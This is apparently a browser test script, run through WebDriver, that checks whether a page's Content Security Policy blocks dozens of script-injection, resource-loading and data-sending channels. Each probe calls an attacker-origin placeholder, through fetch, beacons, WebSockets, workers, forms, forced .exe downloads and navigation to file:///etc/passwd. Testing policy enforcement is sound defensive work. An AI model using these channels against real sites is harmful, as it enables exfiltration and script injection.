// The body of a script that WebDriver runs: arguments are the attacker's origin and whom to tell.
const there = arguments[0];
const done = arguments[arguments.length - 1];
const PATIENCE = 1500;

const element = (name, fields, text) => {
  const made = Object.assign(document.createElement(name), fields);
  if (text) made.textContent = text;
  return made;
};
const added = (name, fields, text) => {
  const made = element(name, fields, text);
  document.body.append(made);
  return made;
};
const styled = (rule) => added("div", {}).setAttribute("style", rule);
const ran = (name) => `window.ran = "${name}"`;
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));

// What has to be heard of: the policy speaks, or an error comes. Of the others only the silence of the server counts.
const HEARD = {
  "inline script": (name) => added("script", {}, ran(name)),
  "inline module": (name) => added("script", { type: "module" }, ran(name)),
  "remote script": () => added("script", { src: `${there}/script.js` }),
  "data script": (name) => added("script", { src: `data:text/javascript,${ran(name)}` }),
  "blob script": (name) => added("script", { src: blob(ran(name), "text/javascript") }),
  "import map": () => added("script", { type: "importmap" }, `{"imports":{"a":"${there}/map.js"}}`),
  "dynamic import": () => import(`${there}/import.js`),
  eval: (name) => (0, eval)(ran(name)),
  "new Function": (name) => new Function(ran(name))(),
  "timer of text": (name) => setTimeout(ran(name)),
  handler: (name) => {
    const clicked = added("div", {});
    clicked.setAttribute("onclick", ran(name));
    clicked.click();
  },
  "image beacon": () => added("img", { src: `${there}/image` }),
  "picture of style": () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: url(${there}/style-image) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  "inline style": () => added("style", {}, `@import "${there}/inline.css"`),
  "remote style": () => added("link", { rel: "stylesheet", href: `${there}/style.css` }),
  font: () => new FontFace("out", `url(${there}/font)`).load(),
  media: () => added("video", { src: `${there}/video` }),
  fetch: () => fetch(`${there}/fetch`),
  "fetch of Microsoft": () => fetch("https://graph.microsoft.com/v1.0/me"),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open("POST", `${there}/xhr`);
    request.send("x");
  },
  WebSocket: () => new WebSocket(there.replace("http", "ws")),
  EventSource: () => new EventSource(`${there}/events`),
  beacon: () => navigator.sendBeacon(`${there}/beacon`, "x"),
  "blob worker": () => new Worker(blob(`fetch("${there}/worker")`, "text/javascript")),
  "remote worker": () => new Worker(`${there}/worker.js`),
  iframe: () => added("iframe", { src: `${there}/frame` }),
  object: () => added("object", { data: `${there}/object` }),
  embed: () => added("embed", { src: `${there}/embed` }),
  base: () => document.head.append(element("base", { href: `${there}/` })),
  form: () => {
    const form = added("form", { action: `${there}/form`, method: "post" });
    form.submit();
  },
  "javascript link": (name) => added("a", { href: `javascript:${ran(name)}` }).click(),
};
const SILENT = {
  "iframe of text": (name) => added("iframe", { srcdoc: `<script>parent.ran = "${name}"</script>` }),
  preconnect: () => document.head.append(element("link", { rel: "preconnect", href: there })),
  prefetch: () => document.head.append(element("link", { rel: "prefetch", href: `${there}/prefetch` })),
  preload: () => document.head.append(element("link", { rel: "preload", as: "script", href: `${there}/preload` })),
  manifest: () => document.head.append(element("link", { rel: "manifest", href: `${there}/manifest` })),
  icon: () => document.head.append(element("link", { rel: "icon", href: `${there}/icon` })),
  "service worker": () => navigator.serviceWorker?.register("/worker.js"),
  "peer connection": () =>
    typeof RTCPeerConnection === "function" &&
    new RTCPeerConnection({ iceServers: [{ urls: there.replace("http://", "stun:") }] }).createDataChannel("out"),
  "style attribute": () => styled(`background: url(${there}/attribute)`),
  ping: () => added("a", { href: "#", ping: `${there}/ping` }).click(),
  download: () => added("a", { href: `${there}/download`, download: "x.exe" }).click(),
  "download of data": () => added("a", { href: "data:application/octet-stream,x", download: "data.exe" }).click(),
  "download of a blob": () => added("a", { href: blob("x", "application/octet-stream"), download: "blob.exe" }).click(),
  "new window": () => window.open(`${there}/window`),
  "new window of text": (name) => window.open(`javascript:opener.ran = "${name}"`),
  "link to a new window": () => added("a", { href: `${there}/target`, target: "_blank" }).click(),
  navigation: () => location.assign(`${there}/navigation`),
  "navigation to a file": () => location.assign("file:///etc/passwd"),
  "navigation to data": () => location.assign("data:text/html,x"),
  "refresh by meta": () =>
    document.head.append(element("meta", { httpEquiv: "refresh", content: `0;url=${there}/refresh` })),
};

const attempt = async (name, act, heard) => {
  const outcome = { violation: null, error: null, ran: false, heard };
  const listening = new AbortController();
  const waited = new Promise((resolve) => {
    const tell = (field) => (event) => {
      outcome[field] ??= String(event.violatedDirective ?? event.message ?? event.type ?? event);
      resolve();
    };
    const { signal } = listening;
    document.addEventListener("securitypolicyviolation", tell("violation"), { signal });
    window.addEventListener("error", tell("error"), { signal, capture: true });
    try {
      const made = act(name);
      made?.addEventListener?.("error", tell("error"), { signal });
      made?.catch?.(tell("error"));
    } catch (error) {
      tell("error")(error);
    }
    setTimeout(resolve, PATIENCE);
  });
  await waited;
  // What was refused is refused; what was not has run by the next turn.
  await new Promise((resolve) => setTimeout(resolve));
  listening.abort();
  outcome.ran = window.ran === name;
  return outcome;
};

(async () => {
  const outcomes = {};
  for (const [heard, attempts] of [
    [true, HEARD],
    [false, SILENT],
  ]) {
    for (const [name, act] of Object.entries(attempts)) outcomes[name] = await attempt(name, act, heard);
  }
  return outcomes;
})().then(done, (error) => done({ failed: { error: String(error), ran: true } }));
